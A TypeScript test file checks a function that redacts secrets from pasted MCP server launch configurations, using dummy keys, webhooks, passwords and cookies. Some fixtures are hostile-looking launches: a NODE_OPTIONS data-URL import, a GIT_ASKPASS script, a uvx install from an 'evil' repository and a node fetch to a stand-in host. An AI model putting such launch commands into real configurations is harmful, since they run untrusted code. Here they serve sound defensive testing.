import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PastedLaunch } from '../pasted/pasteReading.ts';
import { hideSecrets } from './replaceSecrets.ts';

const stdio = (part: Partial<Extract<PastedLaunch, { kind: 'stdio' }>>): PastedLaunch => ({
  kind: 'stdio',
  command: 'npx',
  args: [],
  env: {},
  ...part,
});
const http = (url: string, headers: Record<string, string> = {}): PastedLaunch => ({ kind: 'http', url, headers });

/** What is shown, with `_` for what is hidden, and what was hidden. */
function shownOf(launch: PastedLaunch) {
  const hidden: string[] = [];
  const shown = hideSecrets(launch, (_name, value) => {
    hidden.push(value);
    return '${input:_}';
  });
  return { text: JSON.stringify(shown), hidden };
}

describe('a launch of another app is shown without', () => {
  const longKey = 'q8ZtR3vB7yN1wK5xJ2dL9pM4sA6cF0hG';
  it.each<[name: string, launch: PastedLaunch, secret: string]>([
    ['headers in a variable', stdio({ env: { OPENAPI_MCP_HEADERS: '{"Authorization": "Bearer ntn_9"}' } }), 'ntn_9'],
    ['a key in a configuration', stdio({ args: ['-y', 'x', '--config', '{"braveApiKey":"bk9"}'] }), 'bk9'],
    ['a function key', http(`https://f.example.net/runtime/webhooks/mcp/sse?code=${longKey}==`), longKey],
    ['a key in the path', http(`https://mcp.example.com/api/mcp/s/${longKey}/mcp`), longKey],
    ['a webhook', stdio({ env: { DISCORD_WEBHOOK: 'https://d.example/api/webhooks/1/abc' } }), 'webhooks/1/abc'],
    ['a webhook called a URL', stdio({ env: { SLACK_WEBHOOK_URL: 'https://h.example/T0/B0/x' } }), 'T0/B0/x'],
    [
      'a variable of a container',
      stdio({ command: 'docker', args: ['run', '-e', 'DB_PASS=hunter2!', 'x'] }),
      'hunter2!',
    ],
    ['a variable after an option', stdio({ command: 'x', args: ['-e', 'DB_PASS=hunter2!'] }), 'hunter2!'],
    ['a value around a reference', stdio({ env: { API_KEY: '${env:USER}-hunter2-abc' } }), 'hunter2'],
    ['a connection', stdio({ env: { DB_URL: 'Server=db;User Id=me;Password=hunter2' } }), 'hunter2'],
    ['an option', stdio({ args: ['--pass', 'hunter2'] }), 'hunter2'],
    ['a cookie', http('https://e.example/mcp', { Cookie: 'sid=hunter2' }), 'hunter2'],
  ])('%s', (_name, launch, secret) => {
    const { text, hidden } = shownOf(launch);
    expect(text).not.toContain(secret);
    expect(hidden.join('\n')).toContain(secret);
  });

  it.each<[PastedLaunch]>([
    [stdio({ command: 'uvx', args: ['mcp-server-git', '--repository', '/home/me/my-repository'] })],
    [
      stdio({
        env: { NODE_ENV: 'production', LOG_LEVEL: 'debug', PORT: '8080', DATA_DIR: '/home/me/data', DEBUG: 'true' },
      }),
    ],
    [stdio({ env: { API_URL: 'https://api.example.com/v1/things', TOKEN: '${env:TOKEN}', API_KEY: '${input:key}' } })],
    [http('https://mcp.example.com/2025-11-25/sse?transport=stream', { Accept: 'application/json' })],
  ])('nothing of what everybody may see: %j', (launch) => {
    const { text, hidden } = shownOf(launch);
    expect(hidden).toEqual([]);
    expect(JSON.parse(text)).toEqual(launch);
  });

  it.each<[PastedLaunch]>([
    [stdio({ env: { NODE_OPTIONS: '--import=data:text/javascript,key=1', GIT_ASKPASS: '/tmp/evil-key.sh' } })],
    [stdio({ command: 'uvx', args: ['--from', 'git+https://g.example/evil/a1b2c3d4e5f6a7b8c9d0@main', 'x'] })],
    [stdio({ command: 'node', args: ['-e', "fetch('https://e.example/a1b2c3d4e5f6a7b8c9d0')"] })],
  ])('nothing that says which code runs: %j', (launch) => {
    expect(shownOf(launch).hidden).toEqual([]);
  });

  it.each([
    ['letters', 'a'.repeat(200_000)],
    ['marks of questions', `http://a/${'?'.repeat(200_000)}`],
    ['assignments', 'a=b;'.repeat(50_000)],
    ['addresses', 'a://'.repeat(50_000)],
    ['blanks', `a${' '.repeat(200_000)}`],
    ['references', '${'.repeat(100_000)],
    ['nested JSON', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
  ])(
    'what is safe of a long text of %s, in time that grows with it (else the limit of a test is passed)',
    (_what, text) => {
      const { hidden } = shownOf(stdio({ args: [text, '--pass', text], env: { X: text, DB_PASS: text } }));
      expect(hidden.join('').length).toBeGreaterThan(0);
      expect(shownOf(http(text, { 'X-Key': text })).hidden.join('').length).toBeGreaterThan(0);
    },
  );

  it('anything by the hiding itself: put back, it is the same launch', () => {
    const word = fc.string({ unit: 'grapheme-ascii', maxLength: 30 }).map((text) => text.replaceAll('$', ''));
    const launch = fc.oneof(
      fc
        .record({
          args: fc.array(word, { maxLength: 5 }),
          env: fc.dictionary(fc.constantFrom('A_KEY', 'B', 'DB_PASS'), word),
        })
        .map(stdio),
      fc
        .tuple(word, fc.dictionary(fc.constantFrom('Cookie', 'X-Key'), word))
        .map(([path, headers]) => http(`https://a.example/${path}`, headers)),
    );
    fc.assert(
      fc.property(launch, (one) => {
        const kept: string[] = [];
        const shown = hideSecrets(one, (_name, value) => `\${input:${kept.push(value) - 1}}`);
        const back = JSON.stringify(shown).replace(/\$\{input:(\d+)\}/g, (_, at: string) =>
          JSON.stringify(kept[Number(at)]).slice(1, -1),
        );
        expect(JSON.parse(back)).toEqual(one);
      }),
    );
  });
});

it.each<[where: string, launch: PastedLaunch]>([
  ['after an option', stdio({ args: ['--dsn', 'postgres://joe:hunter2@db.example/x'] })],
  ['with its option', stdio({ args: ['--dsn=postgres://joe:hunter2@db.example/x'] })],
  ['in a variable', stdio({ env: { DB_DSN: 'postgres://joe:hunter2@db.example/x' } })],
])('what is hidden whole is one value, also with a password in it: %s', (_, launch) => {
  expect(shownOf(launch).hidden).toEqual(['postgres://joe:hunter2@db.example/x']);
});
